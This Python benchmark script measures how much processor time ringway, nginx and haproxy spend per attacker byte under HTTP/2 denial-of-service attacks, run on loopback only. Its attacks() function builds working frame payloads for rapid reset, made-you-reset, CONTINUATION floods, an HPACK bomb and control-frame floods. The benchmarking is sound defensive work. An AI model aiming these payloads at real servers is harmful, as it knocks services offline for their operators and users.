#!/usr/bin/env python3
"""What attacks on HTTP/2 cost ringway, nginx and haproxy, for each byte of the attacker.

    benches/http2/attacks.py [ATTACK]... [--ringway FILE] [--connections 40] [--rounds 5]

In go the proxies, each with one thread in front of the same origin (nginx) and with its defaults; out
comes a table: bytes that a connection takes before it is ended, and processor time by schedstat for
each byte and for each connection. The proxies take turns in rounds; figures are medians. Everything
listens on the loopback alone. Needs nginx; haproxy is left out where it is missing.
"""
import argparse, glob, os, select, shutil, socket, statistics, subprocess, tempfile, time

os.environ["PATH"] += ":/usr/sbin"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BYTES_MAX = 1 << 20


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def request(method):
    # GET or POST, http, /, and the authority "a", all but the last from the static table.
    return bytes([method, 0x86, 0x84, 0x41, 1]) + b"a"


GET, POST = 0x82, 0x83
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9


def streams(each):
    return b"".join(each(at) for at in range(1, 60_001, 2))


def attacks():
    many = 60_000
    yield "rapid_reset", streams(
        lambda at: frame(HEADERS, 5, at, request(GET)) + frame(RST, 0, at, (8).to_bytes(4, "big"))
    )
    # The peer is made to reset what it is asked (CVE-2025-8671).
    yield "made_you_reset", streams(
        lambda at: frame(HEADERS, 5, at, request(GET)) + frame(WINDOW, 0, at, bytes(4))
    )
    yield "settings", frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * many
    yield "ping", frame(PING, 0, 0, b"12345678") * many
    yield "window_update", frame(WINDOW, 0, 0, (1).to_bytes(4, "big")) * many
    yield "priority", streams(lambda at: frame(PRIORITY, 0, at, b"\0\0\0\0\x10"))
    yield "empty_data", frame(HEADERS, 4, 1, request(POST)) + frame(DATA, 0, 1) * many
    yield "continuation", frame(HEADERS, 0, 1, request(GET)) + frame(CONTINUATION, 0, 1) * many
    yield "continuation_fields", frame(HEADERS, 0, 1, request(GET)) + frame(
        CONTINUATION, 0, 1, b"\0\1a\1b" * 100
    ) * 4000
    # One large entry of the table, named over and over.
    entry = b"\x40\1b\x7f\xe1\x1e" + b"c" * 4064
    yield "hpack_bomb", frame(HEADERS, 4, 1, request(GET) + entry) + b"".join(
        frame(HEADERS, 5, at, request(GET) + b"\xbe" * 1000) for at in range(3, 2003, 2)
    )


def attack(port, payload):
    """Bytes that were taken before the connection ended, or stood still for half a second."""
    peer = socket.create_connection(("127.0.0.1", port))
    peer.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
    peer.setblocking(False)
    sent, payload = 0, payload[:BYTES_MAX]
    try:
        while True:
            wants = [peer] if sent < len(payload) else []
            readable, writable, _ = select.select([peer], wants, [], 0.5)
            if readable and not peer.recv(65536) or not (readable or writable):
                break
            if writable:
                sent += peer.send(payload[sent : sent + 16384])
    except OSError:
        pass
    peer.close()
    return sent


def spent(pid):
    """Nanoseconds of processor time."""
    files = glob.glob(f"/proc/{pid}/task/*/schedstat")
    return sum(int(open(file).read().split()[0]) for file in files)


def free_ports(count):
    listeners = [socket.create_server(("127.0.0.1", 0)) for _ in range(count)]
    ports = [listener.getsockname()[1] for listener in listeners]
    for listener in listeners:
        listener.close()
    return ports


NGINX = """daemon off; master_process off; pid {dir}/{name}.pid; error_log {dir}/{name}.error crit; {user}
events {{ worker_connections 4096; }}
http {{
    access_log off; keepalive_requests 1000000000;
    client_body_temp_path {dir}/{name}b; proxy_temp_path {dir}/{name}p; fastcgi_temp_path {dir}/{name}f;
    uwsgi_temp_path {dir}/{name}u; scgi_temp_path {dir}/{name}s;
    upstream origin {{ server 127.0.0.1:{origin}; keepalive 128; }}
    server {{ listen 127.0.0.1:{port}{http2}; location / {{ {location} }} }}
}}
"""
HAPROXY = """global
    nbthread 1
defaults
    mode http
    timeout connect 5s
    timeout client 60s
    timeout server 60s
frontend front
    bind 127.0.0.1:{port} proto h2
    default_backend origin
backend origin
    server origin 127.0.0.1:{origin}
"""


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", nargs="*")
    parser.add_argument("--ringway", default="target/dist/ringway")
    parser.add_argument("--connections", type=int, default=40)
    parser.add_argument("--rounds", type=int, default=5)
    args = parser.parse_args()
    folder = tempfile.mkdtemp(prefix="ringway-attacks-")
    origin, *ports = free_ports(4)
    user = "user root;" if os.geteuid() == 0 else ""

    def nginx(name, port, http2, location):
        text = NGINX.format(dir=folder, name=name, user=user, origin=origin, port=port, http2=http2, location=location)
        path = f"{folder}/{name}.conf"
        open(path, "w").write(text)
        return ["nginx", "-p", folder, "-e", f"{folder}/{name}.error", "-c", path]

    passing = 'proxy_pass http://origin; proxy_http_version 1.1; proxy_set_header Connection "";'
    commands = {
        "ringway": [args.ringway, "--host", "127.0.0.1", "--port", str(ports[0]), "--workers", "1",
                    "--upstream", f"http://127.0.0.1:{origin}", "--set", "admin.enabled=false"],
        "nginx": nginx("proxy", ports[1], " http2", passing),
    }
    if shutil.which("haproxy"):
        open(f"{folder}/haproxy.cfg", "w").write(HAPROXY.format(port=ports[2], origin=origin))
        commands["haproxy"] = ["haproxy", "-f", f"{folder}/haproxy.cfg"]
    started = [subprocess.Popen(nginx("origin", origin, "", 'return 200 "hello";'))]
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    proxies = {}
    try:
        for (name, command), port in zip(commands.items(), ports):
            process = subprocess.Popen(command, **quiet)
            started.append(process)
            proxies[name] = (process, port)
        time.sleep(2)
        heads = [f"{name}: bytes, ns a byte, us a connection" for name in proxies]
        print("| attack | " + " | ".join(heads) + " |\n|" + "---|" * (len(heads) + 1))
        for name, payload in attacks():
            if args.attack and name not in args.attack:
                continue
            rounds = {proxy: [] for proxy in proxies}
            for _ in range(args.rounds):
                for proxy, (process, port) in proxies.items():
                    before = spent(process.pid)
                    sent = sum(attack(port, payload) for _ in range(args.connections))
                    cost = spent(process.pid) - before
                    rounds[proxy].append((sent / args.connections, cost / sent, cost / args.connections / 1000))
            cells = [
                "{:.0f}, {:.1f}, {:.0f}".format(*map(statistics.median, zip(*rounds[proxy]))) for proxy in proxies
            ]
            print(f"| {name} | " + " | ".join(cells) + " |", flush=True)
    finally:
        for process in started:
            process.terminate()
        for process in started:
            process.wait()
        shutil.rmtree(folder, ignore_errors=True)


main()
